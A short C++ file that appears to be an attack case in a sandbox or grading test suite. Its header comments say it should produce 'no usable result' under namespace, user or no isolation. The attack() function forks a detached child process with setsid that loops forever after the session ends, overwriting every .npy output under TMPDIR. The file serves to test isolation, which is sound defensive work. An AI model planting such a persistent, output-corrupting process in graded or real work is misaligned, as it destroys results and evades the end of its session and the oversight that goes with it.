// what: leaves a process behind that writes over the outputs again and again, after the end too
// graded: which no answer to this lesson needs
// namespaces: should be|no usable result
// user: should be|no usable result
// none: should be|no usable result
#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
namespace {
[[noreturn]] void write_over_and_over() {
  namespace fs = std::filesystem;
  setsid();
  for (;;) {
    std::error_code error;
    for (const auto& entry : fs::recursive_directory_iterator(std::getenv("TMPDIR"), error)) {
      if (entry.path().extension() == ".npy") std::ofstream(entry.path()) << "rewritten";
    }
    usleep(1000);
  }
}
}  // namespace
bool attack() {
  static const bool started = fork() != 0 || (write_over_and_over(), true);
  return !started;
}
